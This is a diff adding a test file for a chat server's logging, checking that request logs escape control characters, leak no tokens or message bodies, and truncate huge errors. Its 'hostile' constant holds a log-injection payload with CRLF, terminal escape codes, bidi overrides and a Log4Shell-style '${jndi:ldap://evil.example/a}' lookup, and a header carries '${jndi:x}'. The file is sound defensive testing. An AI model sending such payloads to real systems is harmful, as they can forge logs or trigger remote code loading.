@@ -1,0 +1,139 @@
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { Database as SqliteFile } from "bun:sqlite";
+import { join } from "node:path";
+import { createLog } from "../../src/log.ts";
+import { hashOf } from "../../src/tokens/secret-text.ts";
+import { apiClient } from "../support/client.ts";
+import { until } from "../support/conditions.ts";
+import { type Stage, startStage } from "../support/stage.ts";
+
+let stage: Stage;
+let token: string;
+let messages: string;
+
+beforeAll(async () => {
+  stage = await startStage();
+  ({ token } = await stage.workspace.token(stage.cast.member));
+  messages = `/channels/${stage.cast.open.id}/messages`;
+});
+
+afterAll(() => stage[Symbol.asyncDispose]());
+
+/** Ends a line for some reader, or does something to a terminal: none of it may stand in a log as it is. */
+const unfitForLogs = /[\p{Cc}\p{Zl}\p{Zp}\u202A-\u202E\u2066-\u2069]/u;
+
+/** What an attacker would like to see come out of a log. */
+const hostile =
+  'canary\r\n{"level":60}\u001B[2J\u009B31m\u0085\u2028\u2029\u202E${jndi:ldap://evil.example/a}%n\0';
+
+/** Runs `act` while the server's database lacks the table, as it would be after a botched repair. */
+async function withoutTable(table: string, act: () => Promise<void>): Promise<void> {
+  using file = new SqliteFile(join(stage.server.dataDir, "parley.db"));
+  file.run("PRAGMA busy_timeout = 5000");
+  file.run("PRAGMA legacy_alter_table = ON");
+  file.run(`ALTER TABLE ${table} RENAME TO ${table}_elsewhere`);
+  try {
+    await act();
+  } finally {
+    file.run(`ALTER TABLE ${table}_elsewhere RENAME TO ${table}`);
+  }
+}
+
+/** The line of the log about the request with this answer, as it was written. */
+async function lineOf({ headers }: { headers: Headers }): Promise<string> {
+  const id = headers.get("x-request-id") ?? "none";
+  return await until("the log tells of the request", () =>
+    stage.server.logLines().find((line) => line.includes(id)),
+  );
+}
+
+describe("a fault of ours", () => {
+  test("is told to the operator in one line, and to nobody what was being written", async () => {
+    const client = apiClient(stage.server.url, token);
+    const body = `canary${hostile.replace("\0", "")}${"x".repeat(7_000)}`;
+    await withoutTable("messages", async () => {
+      const answer = await client.post(messages, { body });
+      expect(answer.status).toBe(500);
+      expect(answer.text).not.toMatch(/sql|table|insert|canary|\bat \/|\.ts/i);
+      const line = await lineOf(answer);
+      expect(JSON.parse(line)).toMatchObject({ level: 50, status: 500, msg: "request.failed" });
+      expect(line).toContain("no such table");
+      expect(line).not.toMatch(/canary|jndi|xxx/);
+      expect(line).not.toMatch(unfitForLogs);
+      expect(line.length).toBeLessThan(10_000);
+    });
+    expect((await client.post(messages, { body: "hello again" })).status).toBe(201);
+  });
+
+  test("is the same for a request that only wants the headers", async () => {
+    await withoutTable("messages", async () => {
+      const response = await fetch(`${stage.server.url}/api/v1${messages}`, {
+        method: "HEAD",
+        headers: { authorization: `Bearer ${token}` },
+      });
+      expect(response.status).toBe(500);
+      expect(await lineOf(response)).toContain("no such table");
+    });
+  });
+
+  test("while a token is looked up tells nothing of the token", async () => {
+    const client = apiClient(stage.server.url, token);
+    await withoutTable("tokens", async () => {
+      const answer = await client.get("/channels");
+      expect(answer.status).toBe(500);
+      const line = await lineOf(answer);
+      expect(line).toContain("no such table");
+      expect(line).not.toContain(hashOf(token));
+      expect(line).not.toContain(token);
+    });
+    expect((await client.get("/channels")).status).toBe(200);
+  });
+});
+
+describe("the log", () => {
+  test("has one line for a request, with the route and nothing else of the address", async () => {
+    const before = stage.server.logLines().length;
+    const client = apiClient(stage.server.url, token);
+    const text = encodeURIComponent(hostile);
+    const paths = [`/channels/${text}`, `/${text}`, `/channels?${text}=${text}`, `${messages}/${text}`];
+    const headers = {
+      "user-agent": "canary ${jndi:x}",
+      referer: "https://canary.example",
+      "x-request-id": "canary",
+    };
+    for (const path of paths) await client.get(path, headers);
+    await lineOf(await client.post(messages, { body: hostile }));
+
+    const lines = stage.server.logLines().slice(before);
+    expect(lines).toHaveLength(paths.length + 1);
+    for (const line of lines) {
+      expect(JSON.parse(line)).toMatchObject({ level: 30, msg: "request.handled" });
+      expect(line).not.toMatch(/canary|jndi|evil/);
+    }
+  });
+
+  test("escapes what a reader could take for the end of a line, and a terminal for a command", () => {
+    const written: string[] = [];
+    const log = createLog("info", { write: (text) => void written.push(text) });
+    log.warn({ detail: hostile }, hostile);
+    expect(written).toHaveLength(1);
+    const line = written[0]?.slice(0, -1) ?? "";
+    expect(line).not.toMatch(unfitForLogs);
+    expect(JSON.parse(line)).toMatchObject({ detail: hostile, msg: hostile });
+  });
+
+  test("cuts short what an error says, its causes included", () => {
+    const written: string[] = [];
+    const log = createLog("info", { write: (text) => void written.push(text) });
+    const long = "😀".repeat(500_000);
+    let error = new Error(long);
+    for (let depth = 0; depth < 100; depth++) error = new Error(long, { cause: error });
+    error.stack = `Error: ${long}\n    at ${long}`;
+    log.error({ err: error }, "request.failed");
+    log.error({ err: long }, "request.failed");
+    for (const line of written) {
+      expect(line.length).toBeLessThan(50_000);
+      expect(line.isWellFormed()).toBe(true);
+    }
+  });
+});
